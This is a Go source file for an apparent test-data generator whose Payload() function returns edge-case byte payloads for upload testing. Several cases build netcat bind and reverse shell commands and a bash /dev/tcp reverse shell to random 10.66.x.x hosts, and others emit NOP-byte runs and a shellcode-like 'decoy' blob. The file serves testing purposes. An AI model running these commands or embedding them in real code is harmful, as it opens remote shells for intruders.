package random

import (
	"bytes"
	"encoding/base64"
	"encoding/hex"
	"fmt"
)

// structuredDecoy is a fixed blob shaped like a license key dump. It exists
// to stress byte-fidelity of uploads, not to mean anything.
const structuredDecoy = `TX-3399-Purr-!TTTP\%JONE%501:-%mm4-%mm%--DW%P-Yf1Y-fwfY-yzSzP-iii%-Zkx%-%Fw%P-XXn6- 99w%-ptt%P-%w%%-qqqq-jPiXP-cccc-Dw0D-WICzP-c66c-W0TmP-TTTT-%NN0-%o42-7a-0P-xGGx-rrrx- aFOwP-pApA-N-w--B2H2PPPPPPPPPPPPPPPPPPPPPP`

//nolint:gochecknoglobals
var netcatVariants = []string{"nc", "ncat", "netcat"}

// Payload draws one entry from a fixed catalogue of edge-case byte payloads:
// single emoji, random hex and base64 blobs, repeated-byte runs, raw bytes,
// shell-injection-shaped strings and long structured decoys. String results
// are returned UTF-8 encoded.
//
//nolint:cyclop,mnd
func (g *Generator) Payload() []byte {
	switch g.rng.IntN(13) {
	case 0:
		return []byte("\U0001f4a9")
	case 1:
		return []byte(g.Emojis(1))
	case 2:
		return []byte("Hi. I did not expect that someone actually reads this.")
	case 3:
		return []byte(hex.EncodeToString(g.randomBytes(4, 128)))
	case 4:
		return []byte(base64.StdEncoding.EncodeToString(g.randomBytes(4, 128)))
	case 5:
		return bytes.Repeat([]byte("A"), g.intRange(4, 16))
	case 6:
		return bytes.Repeat([]byte("B"), g.intRange(4, 16))
	case 7:
		return bytes.Repeat([]byte{0x90}, g.intRange(4, 16))
	case 8:
		return []byte(structuredDecoy)
	case 9:
		return []byte("Never gonna give you up, never gonna let you down")
	case 10:
		return []byte(fmt.Sprintf(`/bin/sh -c "/bin/%s -l -p %d -e /bin/sh"`,
			g.netcat(), g.intRange(1024, 65535)))
	case 11:
		return []byte(fmt.Sprintf(`/bin/sh -c "/bin/%s -e /bin/sh 10.66.%d.%d %d"`,
			g.netcat(), g.intRange(0, 255), g.intRange(0, 255), g.intRange(1024, 65535)))
	default:
		return []byte(fmt.Sprintf(`/bin/bash -i >& /dev/tcp/10.66.%d.%d/%d 0>&1`,
			g.intRange(0, 255), g.intRange(0, 255), g.intRange(1024, 65535)))
	}
}

func (g *Generator) netcat() string {
	return netcatVariants[g.rng.IntN(len(netcatVariants))]
}
